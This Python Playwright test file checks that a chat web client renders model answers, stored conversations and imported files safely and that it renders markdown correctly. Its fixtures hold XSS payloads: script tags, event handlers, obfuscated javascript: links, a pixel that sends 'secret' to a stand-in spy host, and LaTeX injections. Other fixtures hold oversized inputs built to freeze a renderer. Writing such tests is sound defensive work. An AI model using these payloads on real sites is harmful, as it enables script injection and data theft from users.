"""Nothing a model writes can run, fetch, cover the page or freeze it; and it still shows well."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from tests.serve.page.browser import ask, finished, reply_with

if TYPE_CHECKING:
    from playwright.sync_api import Locator, Page

HOSTILE = r"""
<script>window.hit = 1</script>
<img src=x onerror="window.hit = 2"><svg onload="window.hit = 3"></svg>
<iframe srcdoc="<script>parent.hit = 4</script>"></iframe>
<a href="javascript:window.hit = 5">click</a> <style>body { display: none }</style>

[one](javascript:window.hit=6) [two](JaVaScRiPt:window.hit=7)
[three](data:text/html,<script>hit=8</script>)
[four](&#106;avascript:window.hit=9) [five]( javascript:window.hit=10)
[six](vbscript:x) [seven](/v1/models)
[eight](java
script:window.hit=11) <javascript:window.hit=12> ![pixel](https://spy.example/p.png?said=secret)
[good](https://example.com/?a=1&b="onmouseover=hit) mailto: <mailto:a@example.com>

$\href{javascript:window.hit=13}{x}$ $\style{position:fixed;inset:0}{x}$ $\class{drawer}{x}$
$\includegraphics{https://spy.example/p.png}$ $\url{javascript:window.hit=14}$

\[ \begin{equation} \label{composer} x = 1 \end{equation} \ref{composer} \]

| <b onclick=hit=15> | "onfocus=hit autofocus |
|---|---|
| <input autofocus onfocus=hit=16> | ` <script>hit=17</script> ` |

```html"><script>window.hit=18</script>
<script>window.hit = 19</script>
```
"""


def shown(page: Page, text: str) -> Locator:
    """The reply's element after the service answered with a text."""
    reply_with(page, text)
    ask(page, "问")
    return finished(page).locator(".answer")


def test_a_hostile_answer_is_only_text(page: Page) -> None:
    sent = []
    page.on("request", lambda request: sent.append(request.url))
    answer = shown(page, HOSTILE)
    page.wait_for_selector("math")
    for link in answer.locator("a").all():
        assert link.get_attribute("href").startswith(("https://", "mailto:"))
        assert "noopener" in link.get_attribute("rel")
        assert link.get_attribute("target") == "_blank"
    for part in answer.locator(".dead-link").all():
        part.click()
    page.keyboard.press("Tab")
    page.wait_for_timeout(200)
    assert page.evaluate("() => window.hit") is None
    assert page.evaluate("() => typeof hit") == "undefined"
    assert not [url for url in sent if "spy.example" in url]
    forbidden = "script, iframe, object, embed, img, style, link, form, svg:not(.icon), base, meta"
    assert answer.locator(forbidden).count() == 0
    handlers = """node => [...node.querySelectorAll("*")].flatMap(
        one => one.getAttributeNames().filter(name => name.startsWith("on")))"""
    assert answer.evaluate(handlers) == []
    assert page.locator("#composer").count() == 1
    assert page.locator("math [id], math[id], math [href]").count() == 0
    text = answer.inner_text()
    for literal in ("<script>window.hit = 1</script>", "onerror=", "<iframe", "<b onclick=hit=15>"):
        assert literal in text


def test_the_same_holds_for_what_lies_in_the_browser(page: Page) -> None:
    message = {"id": "m2", "conversation": "c", "parent": "m1", "role": "assistant", "calls": []}
    evil = '<img src=x onerror="window.hit = 1">'
    message |= {"content": evil, "reasoning": evil, "state": "failed", "created": 2, "model": evil}
    message |= {"calls": [{"name": evil, "arguments": evil}], "error": {"kind": "x", "text": evil}}
    question = {"id": "m1", "conversation": "c", "parent": None, "role": "user", "content": evil}
    question |= {"created": 1, "state": "done", "reasoning": "", "calls": []}
    stored = {
        "conversations": [{"id": "c", "title": evil, "leaf": "m2", "system": evil, "updated": 1}],
        "messages": [question, message],
    }
    page.evaluate(
        """stored => new Promise((resolve, reject) => {
            const opening = indexedDB.open("chatglm");
            opening.onsuccess = () => {
                const change = opening.result.transaction(Object.keys(stored), "readwrite");
                for (const [name, rows] of Object.entries(stored))
                    for (const row of rows) change.objectStore(name).put(row);
                change.oncomplete = resolve;
                change.onerror = reject;
            };
        })""",
        stored,
    )
    page.evaluate("() => { location.hash = '#/chat/c'; }")
    reply = finished(page, "failed")
    reply.locator("details").first.click()
    page.wait_for_timeout(200)
    assert page.evaluate("() => window.hit") is None
    assert page.locator(".message img, .conversations img, .note img").count() == 0
    assert page.locator("#conversations a").inner_text() == evil
    assert reply.get_attribute("aria-label") == evil


def test_a_hostile_file_of_conversations_brings_nothing_but_text(page: Page) -> None:
    row = {
        "id": "x",
        "role": "system",
        "content": 5,
        "parent": {"a": 1},
        "calls": "no",
        "html": "<b>",
    }
    data = {
        "format": "chatglm-conversations",
        "version": 1,
        "conversations": [{"conversation": {"title": ["x"], "leaf": "x"}, "messages": [row]}],
    }
    page.click("#settings")
    for body in (
        json.dumps(data),
        '{"format": "other"}',
        "no json",
        "[1]",
        json.dumps({**data, "conversations": [5]}),
    ):
        page.locator("#drawer input[type=file]").set_input_files(
            {"name": "a.json", "mimeType": "application/json", "buffer": body.encode()}
        )
        page.wait_for_selector(".toast")
        page.evaluate("() => document.querySelector('.toast').remove()")
    page.keyboard.press("Escape")
    page.locator("#conversations a").first.click()
    assert finished(page, "stopped").locator(".answer").inner_text() == ""


HUGE = (
    "字" * 500_000,
    "*a **b _c " * 20_000,
    "[" * 60_000 + "](" * 30_000,
    "> " * 30_000 + "x",
    "- " * 30_000 + "x",
    "`" * 50_000 + "``x" * 20_000,
    "$" * 50_000 + r"\[" * 20_000,
    "\\[\nx\n" * 10_000,
    "# " + " " * 90_000 + "x\n" + "```" + "a" * 90_000 + "`",
    "|a|b|\n|-|-|\n" + "|x|y|\n" * 5_000,
    "$" + "{" * 900 + "$ $" + r"\frac" * 150 + "$ " + r"$\def\a{\a\a}\a$",
)


def test_huge_and_tangled_answers_do_not_freeze_the_page(page: Page) -> None:
    for text in HUGE:
        page.unroute_all()
        assert shown(page, text).text_content()
        page.fill("#composer", "还能写字")
        assert page.locator("#send").is_enabled()
        page.click("#new-chat")
        page.wait_for_selector("#panel-chat .welcome", state="visible")


def test_markdown_becomes_elements(page: Page) -> None:
    text = (
        "# 题目\n\n**注意：**这是*重点*，~~旧的~~。变量 a_b_c 与 2 * 3 * 4 不变。\n第二行\n\n"
        "1. 一\n   - 甲\n   - 乙\n2. 二\n\n- [x] 完成\n- [ ] 未完成\n\n> 引用\n> 两行\n\n"
        "| 左 | 右 |\n|:--|--:|\n| `a|b` | **粗** |\n\n---\n\n"
        '```python\ndef f(x):  # 注释\n\treturn "字" + 1\n```\n\n'
        "价格 $5 和 $6，公式 $a^2$ 与 \\(b^2\\)，见 https://example.com/x_y。\n\n$$\n\\frac{1}{2}\n$$\n"
    )
    answer = shown(page, text)
    page.wait_for_selector(".formula-row math")
    one = answer.locator
    assert one(".level-1").inner_text() == "题目"
    assert one("p > strong").inner_text() == "注意："
    assert one("p > em").inner_text() == "重点"
    assert one("s").inner_text() == "旧的"
    assert "变量 a_b_c 与 2 * 3 * 4 不变。\n第二行" in one("p").first.inner_text()
    assert one("ol > li").count() == 2
    assert one("ol ul > li").all_inner_texts() == ["甲", "乙"]
    assert [box.is_checked() for box in one(".task input").all()] == [True, False]
    assert one("blockquote").inner_text() == "引用\n两行"
    assert one("td").all_inner_texts() == ["a|b", "粗"]
    assert one("td").last.get_attribute("class") == "align-right"
    assert one("pre code").text_content() == 'def f(x):  # 注释\n\treturn "字" + 1'
    assert one(".code-keyword").all_inner_texts() == ["def", "return"]
    assert one(".code-comment").inner_text() == "# 注释"
    assert one("math").count() == 3
    assert "价格 $5 和 $6" in one("p").all_inner_texts()[-1]
    assert one("p > a").get_attribute("href") == "https://example.com/x_y"
    assert one("hr").count() == 1


def test_code_is_copied_as_it_was_written(page: Page) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    answer = shown(page, "```\n\tx <b>\n  y\n```")
    answer.get_by_label("复制代码").click()
    page.wait_for_selector("#announcer:has-text('已复制')", state="attached")
    assert page.evaluate("() => navigator.clipboard.readText()") == "\tx <b>\n  y"


def test_thoughts_and_tool_calls_are_folded(page: Page) -> None:
    call = {"index": 0, "function": {"name": "weather", "arguments": '{"city":'}}
    rest = {"index": 0, "function": {"arguments": '"北京"}'}}
    deltas = [{"reasoning_content": "先想**一想**"}, {"tool_calls": [call]}, {"tool_calls": [rest]}]
    events = [{"choices": [{"delta": d, "finish_reason": None}]} for d in deltas]
    events.append({"choices": [{"delta": {}, "finish_reason": "tool_calls"}]})
    body = "".join(f"data: {json.dumps(e)}\n\n" for e in events) + "data: [DONE]\n\n"
    page.route(
        "**/v1/chat/completions",
        lambda route: route.fulfill(content_type="text/event-stream", body=body),
    )
    ask(page, "北京天气？")
    reply = finished(page)
    thinking = reply.locator(".thinking")
    assert thinking.get_attribute("open") is None
    thinking.locator("summary").click()
    assert thinking.locator("strong").inner_text() == "一想"
    tool = reply.locator(".calls details")
    assert tool.locator("summary").inner_text() == "调用工具：weather"
    tool.locator("summary").click()
    assert json.loads(tool.locator("pre").inner_text()) == {"city": "北京"}
